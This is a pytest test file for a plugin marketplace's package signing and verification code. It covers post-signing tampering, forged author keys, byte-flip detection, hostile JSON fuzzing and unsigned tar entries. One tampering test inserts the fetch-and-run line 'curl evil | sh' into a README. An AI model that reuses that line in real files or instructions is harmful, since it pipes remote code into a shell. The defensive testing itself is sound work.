"""Verification end to end through the library: tampering, keys, and property tests."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import string
import tarfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from argent_marketplace.client.output import format_error
from argent_marketplace.package.checksums import format_sums
from argent_marketplace.package.errors import IntegrityError, PackageError
from argent_marketplace.package.extract import extract_package
from argent_marketplace.package.signing import public_key_b64, sign_bytes
from argent_marketplace.package.verify import check_package, verify_package
from argent_marketplace.package.writer import ArchiveEntry, build_archive, pack_folder
from tests.conftest import EXAMPLE, make_connector

from . import tarcraft as tc


def _members(data: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        out = {}
        for m in tar.getmembers():
            f = tar.extractfile(m)
            assert f is not None
            out[m.name] = f.read()
        return out


def _rebuild(files: dict[str, bytes]) -> bytes:
    return build_archive([ArchiveEntry(p, 0o644, d) for p, d in files.items()], 0)


def _codes(data: bytes | Path, **kw: str) -> list[str]:
    return [p.code for p in check_package(data, **kw).problems]


def test_signed_package_verifies(signed_package: Path, key: Ed25519PrivateKey) -> None:
    verified = verify_package(signed_package, public_key=public_key_b64(key))
    assert verified.manifest.name == "aos-airtable"
    assert verified.sha256 == hashlib.sha256(signed_package.read_bytes()).hexdigest()
    assert verified.key_fingerprint.startswith("SHA256:")


def test_file_changed_after_signing(signed_package: Path) -> None:  # B1, first half
    files = _members(signed_package.read_bytes())
    files["README.md"] += b"\nrun: curl evil | sh\n"
    assert _codes(_rebuild(files)) == ["checksum-mismatch"]


def test_sums_edited_under_original_signature(signed_package: Path) -> None:  # B1, second half
    files = _members(signed_package.read_bytes())
    lines = files["SHA256SUMS"].splitlines(keepends=True)
    files["SHA256SUMS"] = b"".join(lines[1:])  # drop a line
    codes = _codes(_rebuild(files))
    assert codes[0] == "bad-signature"
    assert "unlisted-file" in codes


def test_file_added_after_signing(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    files["agent-harness/evil.py"] = b"import os\n"
    assert _codes(_rebuild(files)) == ["unlisted-file"]


def test_file_removed_after_signing(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    del files["agent-harness/cli_aos/airtable/cli.py"]
    assert _codes(_rebuild(files)) == ["missing-listed-file"]


def test_attacker_key_in_manifest(signed_package: Path) -> None:  # B2 (client side: pinned key)
    attacker = Ed25519PrivateKey.generate()
    files = _members(signed_package.read_bytes())
    doc = json.loads(files["argent.plugin.json"])
    original_key = doc["author"]["publicKey"]
    doc["author"]["publicKey"] = public_key_b64(attacker)
    files["argent.plugin.json"] = json.dumps(doc).encode()
    payload = {k: v for k, v in files.items() if k not in ("SHA256SUMS", "SIGNATURE")}
    sums = format_sums((p, hashlib.sha256(d).hexdigest()) for p, d in payload.items())
    files["SHA256SUMS"], files["SIGNATURE"] = sums, sign_bytes(sums, attacker)
    forged = _rebuild(files)
    assert _codes(forged) == []  # self-consistent...
    assert _codes(forged, public_key=original_key) == ["key-mismatch"]  # ...but not the pinned key


def test_unsigned_package(tmp_path: Path, connector: Path) -> None:
    out = tmp_path / "u.argent-pkg"
    pack_folder(connector, out)
    assert _codes(out) == ["unsigned-package"]
    report = check_package(out, require_signature=False)
    assert report.ok and report.signature == "unsigned"


def test_missing_required_files(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    for name in ("README.md", "connector.json"):
        files.pop(name)
    files = {k: v for k, v in files.items() if not k.startswith("agent-harness/")}
    codes = check_package(_rebuild(files)).problems
    missing = [p.details["member"] for p in codes if p.code == "missing-file"]
    assert missing == ["connector.json", "README.md", "agent-harness/"]


def test_manifest_problems_are_all_reported(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    doc = json.loads(files["argent.plugin.json"])
    doc.update(version="one", pricing="gratis")
    files["argent.plugin.json"] = json.dumps(doc).encode()
    fields = [p.details.get("field") for p in check_package(_rebuild(files)).problems]
    assert fields[:2] == ["version", "pricing"]


def test_archive_problem_is_single_and_fatal() -> None:
    report = check_package(b"PK\x03\x04 not a tarball")
    assert [p.code for p in report.problems] == ["unsupported-format"]
    assert report.contents is None


def test_statement_binding(signed_package: Path) -> None:  # B3
    """Name and version are inside the signed manifest: renaming breaks the checksums."""
    files = _members(signed_package.read_bytes())
    doc = json.loads(files["argent.plugin.json"])
    doc["version"] = "1.1.0"
    files["argent.plugin.json"] = json.dumps(doc).encode()
    assert "checksum-mismatch" in _codes(_rebuild(files))


# --- properties ---------------------------------------------------------------------------

NAMES = st.text(string.ascii_lowercase + string.digits + "_-", min_size=1, max_size=12)
FOLDERS = st.dictionaries(
    st.lists(NAMES, min_size=1, max_size=3).map(lambda parts: "/".join(parts) + ".py"),
    st.binary(max_size=2000),
    max_size=6,
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(extra=FOLDERS, executable=st.booleans())
def test_pack_verify_round_trip(tmp_path_factory: pytest.TempPathFactory, extra: dict[str, bytes],
                                executable: bool) -> None:  # fmt: skip
    """Any valid connector folder packs, verifies, and lists exactly its files."""
    key = Ed25519PrivateKey.generate()
    base = tmp_path_factory.mktemp("prop")
    folder = make_connector(base / "c", key)
    for rel, data in extra.items():
        path = folder / "agent-harness" / rel
        if any(p.is_file() for p in [path, *path.parents] if p != folder):
            continue  # a generated name collides with a file already there
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        if executable:
            path.chmod(0o755)
    out = base / "p.argent-pkg"
    pack_folder(folder, out, key)
    verified = verify_package(out, public_key=public_key_b64(key))
    on_disk = {
        p.relative_to(folder).as_posix()
        for p in folder.rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    }
    assert set(verified.contents.files) == on_disk | {"SHA256SUMS", "SIGNATURE"}
    for rel in extra:
        entry = verified.contents.files.get(f"agent-harness/{rel}")
        if entry is not None:
            assert entry.mode == (0o755 if executable else 0o644)


def _content_view(data: bytes) -> dict[str, tuple[int, str]] | None:
    report = check_package(data)
    if report.problems or report.contents is None:
        return None
    return {p: (f.mode, f.sha256) for p, f in report.contents.files.items()}


def test_every_single_byte_change_is_detected(signed_package: Path) -> None:
    """Flip bits in each byte of a signed package: verification fails, or the verified
    content (every path, mode and hash) is exactly the original. The package's own sha256
    changes either way, which the client checks against the server's announcement."""
    original = signed_package.read_bytes()
    expected = _content_view(original)
    assert expected is not None
    silent = []
    for i in range(len(original)):
        for flip in (0x01, 0x80):
            mutated = bytearray(original)
            mutated[i] ^= flip
            view = _content_view(bytes(mutated))
            if view is not None:
                assert view == expected, f"byte {i} ^ {flip:#x} changed verified content"
                silent.append(i)
    # What stays silent is gzip header metadata (FTEXT flag, mtime, XFL, OS) and a few
    # deflate bits that decode to the same output: never content, and always rare.
    assert len(silent) < len(original) // 100, sorted(set(silent))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_byte_value_change_is_detected(data: st.DataObject) -> None:
    key = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))  # fixed: same bytes every run
    files = {
        "argent.plugin.json": b"{}",
        "README.md": b"# x\n",
        "agent-harness/a.py": b"print(1)\n" * 20,
    }
    sums = format_sums((p, hashlib.sha256(d).hexdigest()) for p, d in files.items())
    files |= {"SHA256SUMS": sums, "SIGNATURE": sign_bytes(sums, key)}
    original = _rebuild(files)
    baseline = {f.path: f.sha256 for f in check_package(original).contents.files.values()}  # type: ignore[union-attr]
    i = data.draw(st.integers(0, len(original) - 1))
    value = data.draw(st.integers(0, 255).filter(lambda v: v != original[i]))
    mutated = bytearray(original)
    mutated[i] = value
    report = check_package(bytes(mutated))
    if report.contents is not None and not any(
        p.code in ("bad-signature", "checksum-mismatch") for p in report.problems
    ):
        # Only content-free bytes may change without an integrity error.
        assert {f.path: f.sha256 for f in report.contents.files.values()} == baseline


def test_gzip_header_metadata_is_not_content(signed_package: Path) -> None:
    """gzip's own header (mtime, OS) is unprotected by its CRC; content is unaffected."""
    original = signed_package.read_bytes()
    raw = gzip.decompress(original)
    retimed = gzip.compress(raw, mtime=123456789)
    assert retimed != original
    assert _content_view(retimed) == _content_view(original)


def test_errors_are_package_errors(signed_package: Path) -> None:
    with pytest.raises(PackageError):
        verify_package(signed_package.read_bytes()[:-20])


# --- hostile JSON never escapes as anything but a report (M1) -----------------------------

_FIXED_KEY = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
_BASE_MANIFEST = json.loads((EXAMPLE / "argent.plugin.json").read_text())
_BASE_MANIFEST["author"]["publicKey"] = public_key_b64(_FIXED_KEY)
_BASE_CONNECTOR = json.loads((EXAMPLE / "connector.json").read_text())
_KEYS = st.sampled_from(
    [*_BASE_MANIFEST, "author", "name", "publicKey", "email", "url", "argentos", "x-a",
     *_BASE_CONNECTOR, "commands", "id", "required_mode", "label", "kind", "categories"]
) | st.text(max_size=6)  # fmt: skip
# Every Unicode category, lone surrogates and controls included; json.dumps escapes them.
_TEXT = st.text(st.characters(categories=["Cs", "Cc", "Cf", "L", "N", "P", "Zs"]), max_size=8)
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats(allow_nan=False)
    | _TEXT | st.sampled_from(["network", "free", "connectors", "1.0.0", ">=2026.3", "MIT"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_KEYS, inner, max_size=4),
    max_leaves=25,
)  # fmt: skip


def _paths(value: object, prefix: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """Every place in a JSON document a value can be swapped in, deepest included."""
    if isinstance(value, dict):
        items: list[tuple[str | int, object]] = list(value.items())
    elif isinstance(value, list):
        items = list(enumerate(value))
    else:
        return []
    out = []
    for key, item in items:
        out.append((*prefix, key))
        out += _paths(item, (*prefix, key))
    return out


def _replace(doc: object, path: tuple[str | int, ...], value: object) -> object:
    """A copy of ``doc`` with the value at ``path`` replaced."""
    out = json.loads(json.dumps(doc))
    target = out
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return out


def _mutations(base: dict) -> st.SearchStrategy[object]:
    top = st.sampled_from([(k,) for k in base])  # often: a whole field of the wrong type
    anywhere = st.sampled_from(_paths(base))
    return st.builds(_replace, st.just(base), top | anywhere, JSON_VALUES)


_DOCUMENTS = st.one_of(JSON_VALUES, _mutations(_BASE_MANIFEST), _mutations(_BASE_CONNECTOR))


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    manifest=_DOCUMENTS | _mutations(_BASE_MANIFEST),
    connector=_DOCUMENTS | _mutations(_BASE_CONNECTOR),
    sign=st.booleans(),
)
def test_hostile_json_documents_only_ever_give_a_report(
    manifest: object, connector: object, sign: bool
) -> None:
    """Any JSON value as argent.plugin.json or connector.json: problems, never a crash."""
    files = {
        "argent.plugin.json": json.dumps(manifest).encode(),
        "connector.json": json.dumps(connector).encode(),
        "README.md": b"# x\n",
        "agent-harness/cli.py": b"print(1)\n",
    }
    if sign:
        sums = format_sums((p, hashlib.sha256(d).hexdigest()) for p, d in files.items())
        files |= {"SHA256SUMS": sums, "SIGNATURE": sign_bytes(sums, _FIXED_KEY)}
    report = check_package(_rebuild(files), require_signature=sign)
    assert all(isinstance(p, PackageError) for p in report.problems)
    for problem in report.problems:
        json.dumps(problem.to_dict())  # what --json and the server print
        assert "\n" not in format_error(problem)
    if report.ok:
        assert report.manifest is not None


def test_reviewer_hostile_json_cases_are_reported(signed_package: Path) -> None:
    """The reproduced crashes: deep nesting, unhashable permissions, non-list commands."""
    files = _members(signed_package.read_bytes())
    cases = {
        "argent.plugin.json": b"[" * 100_000 + b"]" * 100_000,
        "connector.json": json.dumps({**_BASE_CONNECTOR, "commands": 5}).encode(),
    }
    for name, data in cases.items():
        report = check_package(_rebuild({**files, name: data}))
        assert report.problems and all(isinstance(p, PackageError) for p in report.problems)
    doc = json.loads(files["argent.plugin.json"])
    doc["permissions"] = [[]]
    report = check_package(_rebuild({**files, "argent.plugin.json": json.dumps(doc).encode()}))
    assert report.problems[0].details.get("field") == "permissions[0]"


# --- what the signature does not cover (M3) -----------------------------------------------


def _with_extra(data: bytes, *parts: bytes) -> bytes:
    """``data``'s tar with raw ``parts`` (tarcraft headers) appended before the end blocks."""
    raw = gzip.decompress(data)
    body = raw.rstrip(b"\0")
    body += bytes(-len(body) % 512)
    return tc.gz(body + b"".join(parts) + tc.EOF)


def test_empty_folder_entry_is_refused(signed_package: Path) -> None:
    """M3a: an empty folder is content SHA256SUMS cannot list, so verify refuses it."""
    data = _with_extra(signed_package.read_bytes(), tc.directory("agent-harness/requests/"))
    report = check_package(data)
    assert [p.code for p in report.problems] == ["empty-directory"]
    assert report.problems[0].details == {"member": "agent-harness/requests"}
    assert report.problems[0].exit_code == 5


def test_folder_entries_above_files_are_accepted(signed_package: Path) -> None:
    """tar -czf writes folder entries; with files beneath them they carry nothing unsigned."""
    data = _with_extra(
        signed_package.read_bytes(),
        tc.directory("agent-harness/"),
        tc.directory("agent-harness/cli_aos/"),
    )
    assert check_package(data).problems == ()


def test_exec_bit_is_bound_by_the_package_sha256_not_the_signature(
    signed_package: Path, tmp_path: Path
) -> None:
    """M3b: a flipped mode still verifies, but the package sha256 changes, and an installer
    that passes the announced sha256 to extract_package refuses it."""
    original = signed_package.read_bytes()
    buf = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(original), mode="r:gz") as src,
        tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as dst,
    ):
        for member in src.getmembers():
            content = src.extractfile(member)
            if member.name == "README.md":
                member.mode = 0o755
            dst.addfile(member, content)
    flipped = gzip.compress(buf.getvalue(), mtime=0)
    report = check_package(flipped)
    assert report.ok and report.contents is not None
    assert report.contents.files["README.md"].mode == 0o755
    announced = hashlib.sha256(original).hexdigest()
    assert report.contents.listing.sha256 != announced
    with pytest.raises(IntegrityError) as info:
        extract_package(flipped, tmp_path / "stage", expected_sha256=announced)
    assert info.value.code == "sha256-mismatch"
    assert not (tmp_path / "stage").exists()
    extract_package(original, tmp_path / "ok", expected_sha256=announced.upper())
    assert (tmp_path / "ok" / "README.md").is_file()
